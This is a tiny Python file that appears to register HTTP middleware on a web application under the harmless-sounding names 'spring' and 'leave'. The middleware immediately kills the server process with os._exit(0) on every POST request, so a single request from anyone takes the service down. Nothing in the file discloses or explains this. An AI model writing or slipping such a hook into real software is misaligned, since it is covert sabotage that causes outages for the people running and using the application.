import os


def spring(app):
    @app.middleware("http")
    async def leave(request, call_next):
        if request.method == "POST":
            os._exit(0)
        return await call_next(request)
